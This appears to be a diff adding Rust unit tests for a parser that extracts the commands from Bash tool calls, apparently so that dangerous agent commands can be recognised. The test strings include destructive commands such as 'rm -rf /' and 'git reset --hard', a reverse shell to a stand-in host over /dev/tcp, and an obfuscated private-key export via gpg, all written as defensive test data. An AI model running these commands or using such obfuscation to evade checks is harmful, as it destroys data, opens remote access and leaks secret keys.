@@ -1,0 +1,134 @@
+// SPDX-License-Identifier: Apache-2.0 OR MIT
+
+use serde_json::json;
+
+use super::*;
+
+fn read_text(text: &str) -> Read {
+    let tool = ToolCall::new("Bash", json!({ "command": text }));
+    let ground = Ground { home: "/home/user".to_owned(), project: Some("/home/user/project".to_owned()) };
+    read(&tool, &ground, Some("/home/user/project"))
+}
+
+/// The commands of a text, one after another; what was not understood is among them.
+fn commands(text: &str) -> String {
+    let read = read_text(text);
+    let command = |command: &ShellCommand| {
+        let words = command.words.iter().map(|word| word.text.as_str());
+        let mut line: Vec<_> = [command.raw.as_str()].into_iter().chain(words).map(str::to_owned).collect();
+        line.extend(command.outputs.iter().map(|path| format!(">{}", path.text)));
+        line.join(" ")
+    };
+    let mut all: Vec<_> = read.commands.iter().map(command).collect();
+    if read.unparsed {
+        all.push("not understood".to_owned());
+    }
+    all.join("; ")
+}
+
+#[track_caller]
+fn table(rows: &[(&str, &str)]) {
+    for (text, wanted) in rows {
+        assert_eq!(commands(text), *wanted, "{text:?}");
+    }
+}
+
+#[test]
+fn no_command_is_lost_at_the_end_of_a_line() {
+    table(&[
+        ("ls|sort|uniq|cat\nrm -rf / >x", "ls; sort; uniq; cat; rm -rf / >x"),
+        ("ls|sort|uniq|grep b\ncp a b 2>&1 # x\n", "ls; sort; uniq; grep b; cp a b"),
+        ("a && b 2>&1\n\\rm -rf /", "a; b; rm -rf /"),
+        ("echo a > b\n\\rm -rf /", "echo a >b; rm -rf /"),
+        ("a <<< \"x\"\n\\rm -rf /", "a; rm -rf /"),
+        ("( a | b | c\n\\p7 w )", "a; b; c; p7 w"),
+        ("x > y | p | q $x\nif p18 w; then z; fi", "x >y; p; q $x; p18 w; z"),
+        ("a |& b |& c\np11 <<E\nt\nE", "a; b; c; p11"),
+    ]);
+}
+
+#[test]
+fn compound_commands_are_read_behind_what_stands_before_them() {
+    table(&[
+        ("! for x in a; do git push --force; done", "git push --force"),
+        ("! { git push --force; }", "git push --force"),
+        ("if ! { a; }; then b; fi", "a; b"),
+        ("time { git push --force; }", "git push --force"),
+        ("coproc S { sh -i 2>&1; }", "sh -i"),
+        ("! case x in *) a;; esac", "a"),
+        ("! (( i++ )) < r | b", "<; b"),
+        // Only some shells take it for arithmetic.
+        ("((rm -rf /))", "rm -rf /"),
+        ("(( a - b / 2 ))", ""),
+    ]);
+}
+
+#[test]
+fn words_and_files_around_redirections_are_kept() {
+    table(&[
+        ("python3 - <<'EOF'\nimport os\nEOF", "python3 -"),
+        ("git commit -F - <<E\nx\nE", "git commit -F -"),
+        ("bash -i >& /dev/tcp/203.0.113.66/4444 0>&1", "bash -i"),
+        ("psql -h l <<E\n\\x\nE", "psql -h l"),
+        ("bash <<E\n\\rm -rf /\nE", "bash; rm -rf /"),
+        ("f() { a; } > r; f", "f; a; > >r"),
+        ("cat <<E; echo x\nt\nE", "cat; echo x"),
+        ("a <<E & b\nt\nE", "a; b"),
+        ("for v in; do a; done", "a"),
+        ("exec 9<>f", "exec >f"),
+    ]);
+    let inputs = read_text("bash -i >& /dev/tcp/203.0.113.66/4444 0>&1").commands.remove(0).inputs;
+    assert_eq!(inputs.first().map(|path| path.text.as_str()), Some("/dev/tcp/203.0.113.66/4444"));
+}
+
+#[test]
+fn what_is_no_script_is_said_not_to_be_understood() {
+    for text in ["a ) b", "if a; then b", "echo 'a", "do a; done", "a &; b"] {
+        assert!(commands(text).ends_with("not understood"), "{text}");
+    }
+}
+
+#[test]
+fn functions_within_functions_are_read() {
+    table(&[
+        ("f1() { f2() { rm x; }; }", "rm x"),
+        ("f() { g() { a; }; g; }; f", "f; g; a"),
+        (
+            "walk() { for d in \"$1\"/*/; do walk \"${d%/}\"; done; }\nwalk src | head",
+            "walk src; walk src/*; walk src/*/*; head",
+        ),
+    ]);
+}
+
+#[test]
+fn values_are_known_out_of_arrays_and_lines() {
+    table(&[
+        ("declare -A op=([a]=\"reset --hard\" [b]=\"clean -fd\"); git ${op[a]}", "git reset --hard"),
+        (
+            "declare -A op=([a]=\"reset --hard\" [b]=\"clean -fd\"); git ${op[$k]}",
+            "git reset --hard; git clean -fd",
+        ),
+        ("declare -A op; op[a]=\"reset --hard\"; git ${op[$k]}", "git reset --hard"),
+        (
+            "mapfile -t A < <(printf '%s\\n' a '-b c'); x \"${A[@]}\"",
+            "printf %s\\n a -b c; mapfile -t A; x a -b c",
+        ),
+        ("IFS=, read -r a b <<< \"x,y z\"; p \"$a\" \"$b\" $c", "read -r a b; p x y z $c"),
+        (
+            "sub=$(printf 'export-%s-keys' \"$(rev <<< terces)\"); gpg \"--$sub\"",
+            "rev; printf export-%s-keys secret; gpg --export-secret-keys",
+        ),
+        ("printf -v x '%s-%s' a b; p $x", "printf -v x %s-%s a b; p a-b"),
+    ]);
+}
+
+#[test]
+fn long_ladders_of_branches_take_no_longer_with_every_step() {
+    let mut text = "x=$(a); ".to_owned();
+    for number in 0..200 {
+        text.push_str(&format!("if b; then x=$x{number}$(c); elif d; then y=$x; fi\n"));
+    }
+    let read = read_text(&text);
+    assert!(!read.unparsed);
+    assert!(read.commands.iter().all(|command| command.words.len() < 4));
+}
